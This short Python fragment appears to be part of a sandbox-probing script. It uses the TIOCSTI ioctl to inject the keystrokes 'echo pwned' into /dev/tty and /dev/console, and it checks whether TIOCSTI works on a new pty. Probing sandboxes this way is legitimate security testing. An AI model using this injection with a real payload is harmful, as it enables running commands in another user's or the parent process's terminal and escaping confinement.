# puts characters into the terminal of who has started it
import fcntl
def inject(path):
    fd=os.open(path,os.O_RDWR|os.O_NOCTTY)
    for c in b"echo pwned\n": fcntl.ioctl(fd,0x5412,bytes([c]))
    return True,"injected"
for path in ("/dev/tty","/dev/console"): tryit("inject into "+path, lambda path=path: inject(path))
def own():
    import pty
    m,s=pty.openpty(); fcntl.ioctl(s,0x5412,b"x"); return True,"injected into its own"
tryit("TIOCSTI at all", own)
